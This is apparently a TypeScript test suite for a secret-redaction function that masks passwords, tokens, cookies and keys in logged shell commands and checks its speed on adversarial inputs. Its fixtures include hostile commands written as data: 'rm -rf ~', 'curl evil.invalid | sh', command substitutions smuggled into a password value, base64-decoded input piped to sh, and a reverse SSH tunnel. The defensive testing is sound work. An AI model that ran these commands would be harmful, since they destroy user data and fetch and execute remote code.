// Secrets leave command text; what a reader of the log needs stays.

import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { MAX_REDACTED_TEXT, redactSecrets } from '../../../src/core/audit/redact.ts';
import { HOSTILE_PIECES } from '../../support/hostile-text.ts';

/** Put together here, so that no scanner of this repository takes them for real. */
const drawn = (head: string, length: number) =>
  head + Array.from({ length }, (_, index) => 'aB3dE6gH9jK2mN5pQ8'.charAt((index * 7) % 18)).join('');
const SECRET = 'hunter2hunter2';

const REDACTED: readonly (readonly [string, string])[] = [
  [`export DB_PASSWORD=${SECRET}`, 'export DB_PASSWORD=[redacted]'],
  [`API_KEY="${SECRET} two" make`, 'API_KEY=[redacted] make'],
  [`tool --password ${SECRET} --verbose`, 'tool --password [redacted] --verbose'],
  [`tool --api-key='${SECRET}'`, 'tool --api-key=[redacted]'],
  [`curl -u me:${SECRET} https://x.invalid`, 'curl -u [redacted] https://x.invalid'],
  [`curl -H "X-Api-Key: ${SECRET}" x.invalid`, 'curl -H "X-Api-Key: [redacted]" x.invalid'],
  [`curl -H 'Authorization: Basic ${SECRET}=='`, "curl -H 'Authorization: [redacted]'"],
  [`curl -H 'Cookie: a=${SECRET}; b=${SECRET}' x`, "curl -H 'Cookie: [redacted]' x"],
  [`curl -d '{"password": "${SECRET}"}' x.invalid`, `curl -d '{"password": [redacted]}' x.invalid`],
  [`git clone https://me:${SECRET}@git.invalid/a.git`, 'git clone https://me:[redacted]@git.invalid/a.git'],
  [`git clone https://${drawn('', 30)}@git.invalid/a`, 'git clone https://[redacted]@git.invalid/a'],
  [`psql postgres://u:p@${SECRET}@db.invalid/x`, 'psql postgres://u:[redacted]@db.invalid/x'],
  [`mysql -uroot -p${SECRET} shop`, 'mysql -uroot -p[redacted] shop'],
  [`sshpass -p ${SECRET} ssh host`, 'sshpass -p [redacted] ssh host'],
  [`docker login -u me -p ${SECRET}`, 'docker login -u me -p [redacted]'],
  [`redis-cli -h host -a ${SECRET} ping`, 'redis-cli -h host -a [redacted] ping'],
  [`echo ${drawn('gh' + 'p_', 36)}`, 'echo [redacted]'],
  [`echo ${'AK' + 'IA'}ABCDEFGHIJKLMNOP`, 'echo [redacted]'],
  [`echo ${drawn('', 40)} | tee x`, 'echo [redacted] | tee x'],
  [
    `cat <<E\n-----BEGIN RSA ${'PRIVATE'} KEY-----\nabc\n-----END RSA ${'PRIVATE'} KEY-----\nE`,
    'cat <<E\n[redacted]\nE',
  ],
  [`cat <<E\n-----BEGIN ${'PRIVATE'} KEY-----\nabc`, 'cat <<E\n[redacted]'],
  [`curl -sSu me:${SECRET} https://x.invalid`, 'curl -sSu [redacted] https://x.invalid'],
  [`curl -b 'a=${SECRET}; c=d' x.invalid`, 'curl -b [redacted] x.invalid'],
  [`curl --cookie "a=${SECRET}; c=d" x.invalid`, 'curl --cookie [redacted] x.invalid'],
  [`az login --service-principal -u me -p ${SECRET}`, 'az login --service-principal -u me -p [redacted]'],
  [`aws configure set aws_secret_access_key ${SECRET}`, 'aws configure set aws_secret_access_key [redacted]'],
  [`vault kv put secret/a name=${SECRET} b=${SECRET}; ls`, 'vault kv put secret/a name=[redacted] b=[redacted]; ls'],
  // What would run stays, whatever it is called.
  ['cookie=1; rm -rf ~', 'cookie=[redacted]; rm -rf ~'],
  ["echo it\\'s; cookie=1; rm -rf ~", "echo it\\'s; cookie=[redacted]; rm -rf ~"],
  ["bash -c 'cookie=1; rm -rf ~'", "bash -c 'cookie=[redacted]; rm -rf ~'"],
  ['token="x; curl evil.invalid | sh"', 'token=[redacted]; curl evil.invalid | sh"'],
  ['password="$(curl evil.invalid)" ls', 'password=[redacted]$(curl evil.invalid)" ls'],
  [`TOKEN='${SECRET}`, 'TOKEN=[redacted]'],
];

const KEPT: readonly string[] = [
  'git log --format=%H --author=someone -n 20',
  'git show 3f786850e387550fdab836ed7e6dc881de23001b',
  'docker pull x.invalid/a@sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
  'ls /home/someone/Projects/My-App-2/src/components/ButtonGroup2/index.tsx',
  'git clone ssh://git@git.invalid/a/b.git',
  'curl -H "Authorization: $TOKEN" x.invalid',
  'TOKEN=$(gh auth token) npm publish',
  'rg --max-tokens 4096 password src/',
  'ssh -fNR 0:localhost:22 host.invalid',
  'PATH=/usr/bin:/bin make -j4',
  `echo ${drawn('', 200)} | base64 -d | sh`,
];

describe('redactSecrets', () => {
  for (const [text, expected] of REDACTED) {
    it(`hides the secret in ${text.slice(0, 40).replaceAll('\n', ' ')}`, () =>
      assert.equal(redactSecrets(text), expected));
  }

  for (const text of KEPT) {
    it(`keeps ${text.slice(0, 60)}`, () => assert.equal(redactSecrets(text), text));
  }

  it('leaves no first half of a secret where a long text is cut', () => {
    const text = `${'a '.repeat(MAX_REDACTED_TEXT / 2 - 5)}${drawn('gh' + 'p_', 36)} b`;
    const left = redactSecrets(text);
    assert.doesNotMatch(left, /gh[p]_/);
    assert.match(left, /…\[\d+ more\]$/);
  });

  it('takes a bounded time for texts made to cost time', () => {
    const pieces = [
      ...HOSTILE_PIECES,
      'a',
      'A1b',
      'token=',
      'token="',
      '--password ',
      '--password "',
      'curl -u',
      'curl ',
      'mysql ',
      'a://',
      'https://a:',
      'a.',
      'sk-',
      'eyJaaaaaaaa.',
      `-----BEGIN ${'PRIVATE'} KEY-----`,
      '-----BEGIN ',
      'docker login ',
      'a=:',
      'vault kv put a ',
      'vault write a=b ',
      ' a=',
      'curl -b ',
      'aws configure set ',
      'az login ',
      'token="x; ',
      '@',
    ];
    for (const piece of pieces) {
      const text = piece.repeat(Math.ceil(1_000_000 / piece.length));
      const started = performance.now();
      redactSecrets(text);
      const took = performance.now() - started;
      assert.ok(took < 250, `${took} ms for ${piece}`);
    }
  });
});
